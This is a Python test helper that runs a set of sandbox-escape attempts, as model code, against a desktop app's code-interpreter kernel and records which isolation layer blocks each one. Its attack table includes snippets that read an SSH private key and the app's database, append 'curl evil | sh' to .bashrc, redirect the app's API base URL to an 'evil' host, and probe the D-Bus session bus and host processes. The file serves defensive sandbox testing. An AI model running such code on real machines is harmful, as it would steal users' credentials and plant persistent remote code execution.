"""Attacks on the code interpreter's sandbox, run through a real `KernelPool`.

`run_attacks(home, isolation)` lays out a user's world under `home` (an SSH key, a
`.bashrc`, the app's settings and database, another thread's files, a path socket in /tmp
and one in the runtime folder where the D-Bus session bus lives, an abstract socket and a
marked host process), runs each attack as model code in one thread's kernel, and says for
each whether it was blocked, with the error the code met and the wall that stopped it.

Run as a module it does the same and prints JSON: the tests start it as an ordinary user
(`python -m tests.helpers.sandbox_attacks HOME ISOLATION`), since a kernel runs as
whoever runs the app.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import socket
import stat
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from desktop.core.gpt import CodeInterpreterSettings
from desktop.core.threadfiles import ThreadFiles
from desktop.core.tools.code_interpreter import KernelPool, mounts, syscalls
from desktop.core.tools.code_interpreter.sandbox import LANDLOCK, VIEW

THREAD = "attacker"
TEST_USER = "capsule-sandbox-test"
ROOT = Path(__file__).resolve().parents[2]
PRIVATE_TMP = ("/tmp", "/var/tmp", "/dev/shm")

# Each attack is the body of a `try`; it prints LEAKED (with what it got) when it worked.
ATTACKS: dict[str, str] = {
    "read_ssh_key": "print('LEAKED', open({ssh!r}).read()[:20])",
    "read_app_settings": "print('LEAKED', open({settings!r}).read()[:20])",
    "read_app_database": "print('LEAKED', open({database!r}, 'rb').read(16))",
    "read_other_thread": "print('LEAKED', open({other!r}).read()[:20])",
    "write_bashrc": "open({bashrc!r}, 'a').write('curl evil | sh\\n'); print('LEAKED')",
    "write_app_settings": (
        "open({settings!r}, 'w').write('{{\"base_url\": \"https://evil\"}}'); print('LEAKED')"
    ),
    "connect_tmp_socket": (
        "import socket\nsocket.socket(socket.AF_UNIX).connect({tmp_socket!r}); print('LEAKED')"
    ),
    "connect_session_bus": (
        "import socket\nsocket.socket(socket.AF_UNIX).connect({bus!r}); print('LEAKED')"
    ),
    "connect_abstract_socket": (
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0' + {abstract!r}); "
        "print('LEAKED')"
    ),
    "list_host_processes": (
        "import os\nseen = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "lines = []\nfor p in seen:\n"
        "    try:\n        lines.append(open(f'/proc/{{p}}/cmdline', 'rb').read())\n"
        "    except OSError:\n        pass\n"
        "found = any({marker!r}.encode() in line for line in lines)\n"
        "print('LEAKED' if found else 'UNSEEN', len(seen), 'processes')"
    ),
    "tmp_leftovers": (
        "written = []\nfor folder in {tmp_folders!r}:\n"
        "    try:\n        open(folder + '/' + {token!r}, 'w').write('x'); written.append(folder)\n"
        "    except OSError as exc:\n        print(folder, exc)\n"
        "print('WROTE', written)"
    ),
}


class CannotRun(Exception):
    """The attacks cannot run as an ordinary user here; the message says why."""


@dataclass(frozen=True)
class Outcome:
    """One attack: blocked or not, what the code met, and the wall that stopped it."""

    attack: str
    blocked: bool
    detail: str
    mechanism: str


@dataclass(frozen=True)
class World:
    """The files, sockets and marks of one user's machine that the attacks go after."""

    home: Path
    ssh: Path
    bashrc: Path
    settings: Path
    database: Path
    other: Path
    tmp_socket: str
    bus: str
    abstract: str
    marker: str
    token: str

    def values(self) -> dict[str, Any]:
        fields = {k: str(v) for k, v in asdict(self).items()}
        return {**fields, "tmp_folders": list(PRIVATE_TMP)}


def make_world(home: Path) -> World:
    """Write the user's files under `home` (private, as a real user's are)."""
    token = uuid.uuid4().hex[:12]
    runtime = Path(os.environ.get("XDG_RUNTIME_DIR") or f"/run/user/{os.getuid()}")
    world = World(
        home=home,
        ssh=home / ".ssh" / "id_ed25519",
        bashrc=home / ".bashrc",
        settings=home / "config" / "settings.json",
        database=home / "data" / "capsule.db",
        other=home / "data" / "threads" / "other" / "notes.txt",
        tmp_socket=f"/tmp/capsule-attack-{token}.sock",
        bus=str(runtime / f"capsule-attack-{token}-bus"),
        abstract=f"capsule-attack-{token}",
        marker=f"capsule-attack-marker-{token}",
        token=f"capsule-attack-{token}",
    )
    for path, text in (
        (world.ssh, "-----BEGIN OPENSSH PRIVATE KEY-----\n"),
        (world.bashrc, "# bashrc\n"),
        (world.settings, '{"providers": {}}\n'),
        (world.database, "SQLite format 3\x00"),
        (world.other, "another conversation\n"),
    ):
        path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o600)
    home.chmod(0o700)
    return world


@contextmanager
def listening(world: World) -> Iterator[None]:
    """The world's sockets listening, and its marked process running, while inside."""
    with ExitStack() as stack:
        for address in (world.tmp_socket, world.bus, "\0" + world.abstract):
            if not address.startswith("\0"):
                Path(address).parent.mkdir(parents=True, exist_ok=True, mode=0o700)
            server = socket.socket(socket.AF_UNIX)
            server.bind(address)
            server.listen(4)
            stack.callback(server.close)
            if not address.startswith("\0"):
                os.chmod(address, 0o666)  # as the session bus's socket is
                stack.callback(Path(address).unlink, missing_ok=True)
        marked = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)", world.marker]
        )
        stack.callback(marked.wait)
        stack.callback(marked.kill)
        yield


def run_attacks(home: Path, isolation: str = "auto") -> tuple[dict[str, Outcome], dict[str, Any]]:
    """Every attack against a fresh world under `home`; the outcomes and the kernel's status."""
    world = make_world(home)
    files = ThreadFiles(home / "data" / "threads")
    pool = KernelPool(
        files,
        home / "cache" / "run",
        grace_s=1.0,
        isolation=isolation,
        unisolated_allowed=lambda: True,
    )
    settings = CodeInterpreterSettings(enabled=True, timeout_s=30.0)
    outcomes: dict[str, Outcome] = {}
    try:
        with listening(world):
            status = pool.execute(THREAD, "1", settings).protection
            for name, body in ATTACKS.items():
                code = body.format(**world.values())
                wrapped = f"try:\n{_indent(code)}\nexcept Exception as exc:\n"
                wrapped += "    print('BLOCKED', type(exc).__name__, exc)"
                before = _contents(world)
                logs = pool.execute(THREAD, wrapped, settings).logs.strip()
                if name == "tmp_leftovers":
                    pool.shutdown(THREAD)
                    logs += _leftovers(world.token)
                elif name.startswith("write_"):  # only the real files count
                    logs += "\nCHANGED" if _contents(world) != before else "\nUNCHANGED"
                outcomes[name] = _judge(name, logs, status, _target(world, name))
    finally:
        pool.shutdown_all()
        for folder in PRIVATE_TMP:
            Path(folder, world.token).unlink(missing_ok=True)
    return outcomes, dict(status)


def _contents(world: World) -> tuple[bytes, bytes]:
    return world.bashrc.read_bytes(), world.settings.read_bytes()


def _leftovers(token: str) -> str:
    left = [folder for folder in PRIVATE_TMP if Path(folder, token).exists()]
    return f"\nLEFT {left}" if left else "\nLEFT nothing"


def _target(world: World, attack: str) -> str | None:
    """The file or socket an attack goes for, if it goes for one."""
    field = {
        "read_ssh_key": "ssh",
        "read_app_settings": "settings",
        "read_app_database": "database",
        "read_other_thread": "other",
        "write_bashrc": "bashrc",
        "write_app_settings": "settings",
        "connect_tmp_socket": "tmp_socket",
        "connect_session_bus": "bus",
    }.get(attack)
    return None if field is None else str(world.values()[field])


def _strangers_may(path: str, write: bool) -> bool:
    """Whether a user who owns none of it (nobody) may reach `path` by its mode bits."""
    parts = Path(path).parts
    for depth in range(1, len(parts)):
        if not os.stat(os.path.join(*parts[:depth])).st_mode & stat.S_IXOTH:
            return False
    return bool(os.stat(path).st_mode & (stat.S_IWOTH if write else stat.S_IROTH))


def _judge(name: str, logs: str, status: dict[str, Any], target: str | None) -> Outcome:
    if name == "tmp_leftovers":
        blocked = logs.endswith("LEFT nothing")
    elif name.startswith("write_"):
        blocked = logs.endswith("UNCHANGED")
    else:
        blocked = not logs.startswith("LEAKED")
    wall = _wall(name, logs, status, target) if blocked else "-"
    lines = logs.splitlines()
    return Outcome(name, blocked, lines[-2 if len(lines) > 1 else -1] if lines else "", wall)


_BY_STATUS = {  # attacks whose wall the status alone names
    ("list_host_processes", "proc", "own"): "own /proc (PID namespace, bubblewrap)",
    ("list_host_processes", "proc", "hidden"): "Landlock (/proc closed)",
    ("tmp_leftovers", "files", VIEW): "private tmpfs (bubblewrap), gone with the session",
    ("tmp_leftovers", "files", LANDLOCK): "Landlock (shared temporary folders closed)",
}


def _wall(name: str, logs: str, status: dict[str, Any], target: str | None) -> str:
    """Which protection stopped the attack, read from what the code met and the status."""
    for (attack, key, value), wall in _BY_STATUS.items():
        if attack == name and status.get(key) == value:
            return wall
    if name == "connect_abstract_socket":
        scoped = "PermissionError" in logs or "Operation not permitted" in logs
        return "Landlock (scope)" if scoped else "network namespace (its own abstract sockets)"
    missing = "FileNotFoundError" in logs
    if status.get("files") == VIEW and (missing or name.startswith("write_")):
        return "bubblewrap (not in the code's view)"
    if missing and status.get("mount_namespace"):
        return "mount namespace (root's private folders covered)"
    writes = name.startswith(("write_", "connect_"))
    if status.get("user") == "nobody" and target and not _strangers_may(target, writes):
        return "file permissions (the code runs as nobody)"
    landlocked = "PermissionError" in logs and status.get("files") == LANDLOCK
    return "Landlock" if landlocked else "?"


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.splitlines())


def run_as_ordinary_user(base: Path, isolation: str) -> tuple[dict[str, Outcome], dict[str, Any]]:
    """`run_attacks` in a child process as an unprivileged user, made where allowed.

    Raises:
        CannotRun: this process is not root, or the user cannot be made or run Python.
    """
    if os.geteuid() != 0:
        raise CannotRun("only root can run code as another user")
    user = _test_user()
    runtime = Path(f"/run/user/{user.pw_uid}")
    runtime.mkdir(parents=True, exist_ok=True, mode=0o700)
    os.chown(runtime, user.pw_uid, user.pw_gid)
    base.chmod(0o755)
    home = base / "home"
    home.mkdir()
    os.chown(home, user.pw_uid, user.pw_gid)
    env = {
        "PATH": os.environ.get("PATH", os.defpath),
        "LANG": "C.UTF-8",
        "HOME": str(home),
        "PYTHONPATH": str(ROOT),
        "XDG_RUNTIME_DIR": str(runtime),
    }

    def become_user() -> None:
        # Root's Python may live in a private folder (pyenv under /root): in a mount
        # namespace of the child's own, show the user just Python and this checkout,
        # as a desktop user's own Python would be.
        syscalls.unshare(syscalls.CLONE_NEWNS)
        mounts.expose(_python_paths())
        os.setgroups([])
        os.setgid(user.pw_gid)
        os.setuid(user.pw_uid)

    def as_user(*args: str, timeout: float) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-P", *args],
            preexec_fn=become_user,
            env=env,
            cwd=home,
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )

    can = as_user("-c", "import ipykernel, tests.helpers.sandbox_attacks", timeout=60)
    if can.returncode != 0:
        last = (can.stderr.strip().splitlines() or ["no reason given"])[-1]
        raise CannotRun(f"{TEST_USER} cannot run this Python and checkout: {last}")
    done = as_user("-m", "tests.helpers.sandbox_attacks", str(home), isolation, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    outcomes = {name: Outcome(**fields) for name, fields in report["outcomes"].items()}
    return outcomes, report["status"]


def _python_paths() -> list[str]:
    paths = {sys.base_prefix, sys.prefix, os.path.dirname(os.path.realpath(sys.executable))}
    return sorted({os.path.realpath(p) for p in (*paths, str(ROOT))})


def _test_user() -> pwd.struct_passwd:
    """The unprivileged user the tests run kernels as, made on first use where allowed."""
    with contextlib.suppress(KeyError):
        return pwd.getpwnam(TEST_USER)
    useradd = shutil.which("useradd")
    if useradd is None:
        raise CannotRun("no useradd here to make an unprivileged user")
    made = subprocess.run(
        [
            useradd,
            "--system",
            "--user-group",
            "--no-create-home",
            "--shell",
            "/bin/false",
            TEST_USER,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    if made.returncode != 0 and "already exists" not in made.stderr:
        raise CannotRun(f"could not make an unprivileged user: {made.stderr.strip()}")
    return pwd.getpwnam(TEST_USER)


def main() -> int:
    home, isolation = Path(sys.argv[1]), sys.argv[2]
    outcomes, status = run_attacks(home, isolation)
    report = {"status": status, "outcomes": {k: asdict(v) for k, v in outcomes.items()}}
    sys.stdout.write(json.dumps(report) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
